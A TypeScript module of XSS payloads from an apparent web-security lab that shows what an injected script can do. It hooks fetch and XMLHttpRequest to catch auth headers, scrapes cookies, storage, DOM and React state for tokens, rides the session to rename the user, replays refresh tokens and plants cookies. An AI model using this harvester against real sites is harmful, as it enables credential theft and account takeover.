import type { Finding } from './analysis';

// The lab's XSS payloads: what a script that got into the page does. Each is self-contained
// (globals and its argument only, no imports and no helpers from this file), as a script injected
// into the page would be, with no access to the app's modules.

/**
 * Why the injected-script cards still run although the page's policy refuses injected script
 * ("Can a script get in?" shows it, sink by sink): they take it that one got in anyway.
 */
export const injectionPremise =
  "A script got into the page anyway. The page’s policy refuses injected script in every form (“Can a script get in?” shows it, sink by sink), so this card runs its script as code the page loads from its own origin: what a compromised dependency served from 'self' is, and what a mistake in the policy lets in. That is why what such a script can read, steal and replay still matters.";

/**
 * Runs `payload(arg)` as a script that got into this page: as code the page loaded from its own
 * origin (a compromised dependency), which the page policy lets run. A script injected any other
 * way (an inline <script>, a string handed to a sink) is what the policy refuses.
 */
export function inject<A, R>(payload: (arg: A) => Promise<R>, arg: A): Promise<R> {
  return payload(arg);
}

export interface ProbeAnswer {
  what: string;
  status: number | null;
  note?: string;
}

export interface Loot {
  findings: Finding[];
  /** Requests the script itself sent, and what it saw of their answers. */
  probes: ProbeAnswer[];
  /** Where it looked, and how much it went through. */
  searched: string[];
}

export interface ReadArg {
  /** The API's origin: the requests whose headers are worth catching. */
  api: string;
  csrfPath: string;
  refreshPath: string;
  csrfHeader: string;
  /** How long the network hooks wait for the app's next request. */
  waitMs: number;
}

/**
 * Every way a script in the page can come by a credential: what the page's storage and cookies
 * hold, what the app keeps where script can reach it (globals, the DOM, React's state), the app's
 * own requests (hooking XMLHttpRequest and fetch catches their headers and answers), and asking
 * the API itself with the page's cookies (a CSRF token, a refresh).
 */
export async function readEverything(arg: ReadArg): Promise<Loot> {
  const findings: Finding[] = [];
  const probes: ProbeAnswer[] = [];
  const searched: string[] = [];
  const jwtPattern = /eyJ[\w-]{8,}\.[\w-]{8,}\.[\w-]*/g;
  const add = (source: string, kind: Finding['kind'], value: string) => {
    if (!findings.some((found) => found.source === source && found.value === value)) findings.push({ source, kind, value });
  };
  const scanText = (source: string, text: string) => {
    for (const match of text.match(jwtPattern) ?? []) add(source, 'jwt', match);
  };
  const isApi = (url: string) => {
    try {
      return new URL(url, location.href).origin === arg.api;
    } catch {
      return false;
    }
  };

  // 1. Hooks first, so that the app's next request is caught whatever else happens.
  const xhrProto = XMLHttpRequest.prototype;
  // Kept to be called with .call(this), and put back when done.
  // eslint-disable-next-line @typescript-eslint/unbound-method
  const original = { open: xhrProto.open, setRequestHeader: xhrProto.setRequestHeader, send: xhrProto.send, fetch: window.fetch };
  const xhrUrls = new WeakMap<XMLHttpRequest, string>();
  let caughtRequest: () => void = () => undefined;
  const nextRequest = new Promise<void>((resolve) => (caughtRequest = resolve));
  const watchHeader = (source: string, name: string, value: string) => {
    if (name.toLowerCase() === 'authorization') add(source, 'authorization', value);
    if (name.toLowerCase() === arg.csrfHeader.toLowerCase()) add(source, 'csrf-token', value);
  };
  xhrProto.open = function (this: XMLHttpRequest, method: string, url: string | URL, ...rest: unknown[]) {
    xhrUrls.set(this, String(url));
    (original.open as (...args: unknown[]) => void).call(this, method, url, ...rest);
  };
  xhrProto.setRequestHeader = function (this: XMLHttpRequest, name: string, value: string) {
    if (isApi(xhrUrls.get(this) ?? '')) watchHeader('XMLHttpRequest hook (request headers)', name, value);
    original.setRequestHeader.call(this, name, value);
  };
  xhrProto.send = function (this: XMLHttpRequest, body?: Document | XMLHttpRequestBodyInit | null) {
    if (isApi(xhrUrls.get(this) ?? '')) {
      this.addEventListener('loadend', () => {
        if (this.responseType === '' || this.responseType === 'text') scanText('XMLHttpRequest hook (answers)', this.responseText);
        caughtRequest();
      });
    }
    original.send.call(this, body);
  };
  window.fetch = async (input: RequestInfo | URL, init?: RequestInit) => {
    const url = input instanceof Request ? input.url : String(input);
    if (isApi(url)) {
      new Headers(input instanceof Request ? input.headers : init?.headers).forEach((value, name) => watchHeader('fetch hook (request headers)', name, value));
    }
    const response = await original.fetch(input, init);
    if (isApi(url)) {
      scanText('fetch hook (answers)', await response.clone().text().catch(() => ''));
      caughtRequest();
    }
    return response;
  };
  const unhook = () => {
    Object.assign(xhrProto, { open: original.open, setRequestHeader: original.setRequestHeader, send: original.send });
    window.fetch = original.fetch;
  };

  try {
    // 2. Cookies script can see.
    searched.push('document.cookie');
    for (const pair of document.cookie.split(';')) if (pair.trim()) add('document.cookie', 'cookie', pair.trim());

    // 3. Web storage and IndexedDB.
    for (const [name, storage] of [['localStorage', localStorage], ['sessionStorage', sessionStorage]] as const) {
      searched.push(`${name} (${storage.length} entries)`);
      for (let i = 0; i < storage.length; i++) {
        const key = storage.key(i) ?? '';
        const value = storage.getItem(key) ?? '';
        add(name, 'storage', `${key}=${value}`);
        scanText(name, value);
      }
    }
    if ('databases' in indexedDB) {
      const names = (await indexedDB.databases()).map((db) => db.name ?? '');
      searched.push(`IndexedDB (${names.length} databases${names.length ? `: ${names.join(', ')}` : ''})`);
    }

    // 4. The app's memory, as far as script can reach it: walk objects (never calling functions).
    let visited = 0;
    const seen = new WeakSet<object>();
    const walk = (source: string, value: unknown, depth: number) => {
      if (visited > 60_000 || depth > 7) return;
      visited++;
      if (typeof value === 'string') {
        if (value.length > 20) scanText(source, value);
        return;
      }
      if (typeof value !== 'object' || value === null || value instanceof Node || value instanceof Window) return;
      if (seen.has(value)) return;
      seen.add(value);
      let keys: string[];
      try {
        keys = Object.keys(value);
      } catch {
        return;
      }
      for (const key of keys) {
        let child: unknown;
        try {
          child = (value as Record<string, unknown>)[key];
        } catch {
          continue;
        }
        if (typeof child !== 'function') walk(source, child, depth + 1);
      }
      if (value instanceof Map) for (const [, child] of value) walk(source, child, depth + 1);
      if (value instanceof Set) for (const child of value) walk(source, child, depth + 1);
    };

    // Globals the app added: everything on window that a fresh window does not have.
    const blank = document.createElement('iframe');
    blank.style.display = 'none';
    document.body.append(blank);
    const standard = new Set(Object.getOwnPropertyNames(blank.contentWindow ?? {}));
    blank.remove();
    const globals = Object.getOwnPropertyNames(window).filter((name) => !standard.has(name));
    for (const name of globals) {
      try {
        walk('window globals', (window as unknown as Record<string, unknown>)[name], 0);
      } catch {
        // a getter that throws
      }
    }
    searched.push(`window globals (${globals.length} the app added)`);

    // The DOM: its markup, and the values typed into its fields.
    scanText('the DOM', document.documentElement.outerHTML);
    for (const field of document.querySelectorAll('input, textarea')) scanText('the DOM', (field as HTMLInputElement).value);
    searched.push('the DOM (markup and field values)');

    // React's state: every DOM node it renders points to its component tree.
    const container = document.getElementById('root');
    const rootKey = container ? Object.keys(container).find((key) => key.startsWith('__reactContainer$')) : undefined;
    let fibers = 0;
    if (container && rootKey) {
      type Fiber = { child: Fiber | null; sibling: Fiber | null; memoizedProps: unknown; memoizedState: unknown };
      const stack: Fiber[] = [(container as unknown as Record<string, Fiber>)[rootKey]!];
      while (stack.length > 0 && fibers < 20_000) {
        const fiber = stack.pop()!;
        fibers++;
        walk("React's component state", fiber.memoizedProps, 0);
        walk("React's component state", fiber.memoizedState, 0);
        if (fiber.sibling) stack.push(fiber.sibling);
        if (fiber.child) stack.push(fiber.child);
      }
    }
    searched.push(`React's component tree (${fibers} components, ${visited} values)`);

    // 5. The app's next request, through the hooks (the lab makes the app send one now).
    await Promise.race([nextRequest, new Promise((resolve) => setTimeout(resolve, arg.waitMs))]);
    searched.push('the app’s requests and answers (XMLHttpRequest and fetch hooked)');
  } finally {
    unhook();
  }

  // 6. Ask the API, with the page's cookies: the browser attaches them, and CORS lets this origin read the answers.
  let csrfToken: string | null = null;
  try {
    const response = await fetch(arg.api + arg.csrfPath, { credentials: 'include' });
    probes.push({ what: `GET ${arg.csrfPath}`, status: response.status });
    const body: unknown = await response.json().catch(() => null);
    if (response.ok && typeof body === 'object' && body !== null && 'csrfToken' in body && typeof body.csrfToken === 'string') {
      csrfToken = body.csrfToken;
      add(`GET ${arg.csrfPath}`, 'csrf-token', csrfToken);
    }
  } catch (error) {
    probes.push({ what: `GET ${arg.csrfPath}`, status: null, note: String(error) });
  }
  try {
    const headers: Record<string, string> = csrfToken ? { [arg.csrfHeader]: csrfToken } : {};
    const response = await fetch(arg.api + arg.refreshPath, { method: 'POST', credentials: 'include', headers });
    const text = await response.text();
    probes.push({ what: `POST ${arg.refreshPath}`, status: response.status, ...(response.ok && { note: 'read the answer' }) });
    if (response.ok) scanText(`POST ${arg.refreshPath}`, text);
  } catch (error) {
    probes.push({ what: `POST ${arg.refreshPath}`, status: null, note: String(error) });
  }
  return { findings, probes, searched };
}

export interface RideArg {
  api: string;
  mePath: string;
  csrfPath: string;
  refreshPath: string;
  csrfHeader: string;
  name: string;
}

export interface RideReport {
  steps: ProbeAnswer[];
  renamed: boolean;
}

/**
 * Session riding: no theft, just the user's own browser acting for the script. It renames the
 * user with whatever the page's origin gets: the cookies the browser attaches, a CSRF token the
 * API hands this origin, and if that is not enough, an access token from a refresh.
 */
export async function ride(arg: RideArg): Promise<RideReport> {
  const steps: ProbeAnswer[] = [];
  const credentials: Record<string, string> = {};
  const call = async (what: string, url: string, init: RequestInit): Promise<{ status: number | null; body: unknown }> => {
    try {
      const response = await fetch(url, { credentials: 'include', ...init });
      const body: unknown = await response.json().catch(() => null);
      steps.push({ what, status: response.status });
      return { status: response.status, body };
    } catch (error) {
      steps.push({ what, status: null, note: String(error) });
      return { status: null, body: null };
    }
  };
  const field = (body: unknown, name: string) =>
    typeof body === 'object' && body !== null && name in body ? (body as Record<string, unknown>)[name] : undefined;

  const csrf = await call(`GET ${arg.csrfPath}`, arg.api + arg.csrfPath, {});
  const csrfToken = field(csrf.body, 'csrfToken');
  if (typeof csrfToken === 'string') credentials[arg.csrfHeader] = csrfToken;
  const patch = () =>
    call(`PATCH ${arg.mePath}`, arg.api + arg.mePath, {
      method: 'PATCH',
      headers: { ...credentials, 'Content-Type': 'application/json' },
      body: JSON.stringify({ name: arg.name }),
    });
  let renamed = (await patch()).status === 200;
  if (!renamed) {
    const refresh = await call(`POST ${arg.refreshPath}`, arg.api + arg.refreshPath, { method: 'POST', headers: credentials });
    const token = field(refresh.body, 'accessToken');
    if (typeof token === 'string') {
      credentials.Authorization = `Bearer ${token}`;
      renamed = (await patch()).status === 200;
    }
  }
  return { steps, renamed };
}

export interface RefreshTwiceArg {
  api: string;
  csrfPath: string;
  refreshPath: string;
  csrfHeader: string;
}

/**
 * Presents the page's refresh cookie twice at once, as a thief and the owner would when both
 * hold the same token (or two tabs that skip the lock): the server sees a rotated token again.
 * "At once" is the browser's call: it reads the cookie jar as each request leaves, so a second
 * request that leaves after the first answer (a slow CORS preflight will do it) carries the
 * rotated cookie, and both are admitted. The caller tries again.
 */
export async function refreshTwice(arg: RefreshTwiceArg): Promise<ProbeAnswer[]> {
  const headers: Record<string, string> = {};
  try {
    const response = await fetch(arg.api + arg.csrfPath, { credentials: 'include' });
    const body: unknown = await response.json().catch(() => null);
    if (response.ok && typeof body === 'object' && body !== null && 'csrfToken' in body && typeof body.csrfToken === 'string') {
      headers[arg.csrfHeader] = body.csrfToken;
    }
  } catch {
    // a mode without CSRF tokens: the refresh goes without
  }
  const once = async (n: number): Promise<ProbeAnswer> => {
    try {
      const response = await fetch(arg.api + arg.refreshPath, { method: 'POST', credentials: 'include', headers });
      const body: unknown = await response.json().catch(() => null);
      const error = typeof body === 'object' && body !== null && 'error' in body ? (body.error as { code?: unknown }).code : undefined;
      return { what: `POST ${arg.refreshPath} (#${n})`, status: response.status, ...(typeof error === 'string' && { note: error }) };
    } catch (error) {
      return { what: `POST ${arg.refreshPath} (#${n})`, status: null, note: String(error) };
    }
  };
  return Promise.all([once(1), once(2)]);
}

export interface PlantArg {
  name: string;
  value: string;
}

/** Sets a cookie from script, as an attacker who runs script on the site (or a sibling of it) can. */
export function plantCookie(arg: PlantArg): Promise<{ planted: boolean }> {
  document.cookie = `${arg.name}=${arg.value}; path=/; SameSite=Lax`;
  return Promise.resolve({ planted: document.cookie.split('; ').includes(`${arg.name}=${arg.value}`) });
}
